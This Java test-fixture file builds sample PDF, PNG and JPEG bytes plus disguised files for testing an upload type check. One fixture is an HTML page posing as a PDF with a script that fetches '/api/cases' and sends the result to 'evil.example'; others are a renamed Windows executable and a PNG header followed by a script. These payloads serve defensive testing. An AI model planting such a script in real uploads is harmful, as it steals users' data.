package dk.preparedreturn.documents;

import java.awt.image.BufferedImage;
import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.nio.charset.StandardCharsets;
import javax.imageio.ImageIO;

/** Small real files of each permitted type, and files that only pretend to be one. */
final class TestFiles {

  private TestFiles() {
  }

  /** A one-page PDF as a writer produces it. */
  static byte[] pdf() {
    return ("%PDF-1.4\n1 0 obj<</Type/Catalog/Pages 2 0 R>>endobj\n2 0 obj<</Type/Pages/Kids[3 0 R]/Count 1>>endobj\n"
        + "3 0 obj<</Type/Page/Parent 2 0 R/MediaBox[0 0 200 200]>>endobj\ntrailer<</Root 1 0 R>>\n%%EOF\n")
        .getBytes(StandardCharsets.US_ASCII);
  }

  /** A PDF of exactly that many bytes (padded with a comment before the end marker). */
  static byte[] pdfOfSize(int size) {
    byte[] start = "%PDF-1.4\n%".getBytes(StandardCharsets.US_ASCII);
    byte[] end = "\n%%EOF\n".getBytes(StandardCharsets.US_ASCII);
    byte[] bytes = new byte[size];
    java.util.Arrays.fill(bytes, (byte) 'x');
    System.arraycopy(start, 0, bytes, 0, start.length);
    System.arraycopy(end, 0, bytes, size - end.length, end.length);
    return bytes;
  }

  static byte[] png() {
    return image("png");
  }

  static byte[] jpeg() {
    return image("jpg");
  }

  /** A web page that says it is a PDF (Content-Type and file name), with a script. */
  static byte[] htmlDisguisedAsPdf() {
    return "<html><body><script>fetch('/api/cases').then(r=>r.text()).then(t=>location='https://evil.example/?'+t)</script>%PDF-1.4 %%EOF"
        .getBytes(StandardCharsets.US_ASCII);
  }

  /** A Windows program renamed to .jpg. */
  static byte[] programDisguisedAsJpeg() {
    byte[] bytes = new byte[512];
    bytes[0] = 'M';
    bytes[1] = 'Z';
    return bytes;
  }

  /** PNG's signature followed by a script: the start of a PNG, but no PNG. */
  static byte[] pngSignatureThenScript() {
    byte[] png = png();
    byte[] script = "<script>alert(1)</script>".getBytes(StandardCharsets.US_ASCII);
    byte[] bytes = new byte[8 + script.length];
    System.arraycopy(png, 0, bytes, 0, 8);
    System.arraycopy(script, 0, bytes, 8, script.length);
    return bytes;
  }

  private static byte[] image(String format) {
    BufferedImage image = new BufferedImage(4, 4, BufferedImage.TYPE_INT_RGB);
    image.setRGB(1, 1, 0xFF0000);
    ByteArrayOutputStream out = new ByteArrayOutputStream();
    try {
      ImageIO.write(image, format, out);
    } catch (IOException e) {
      throw new IllegalStateException(e);
    }
    return out.toByteArray();
  }
}
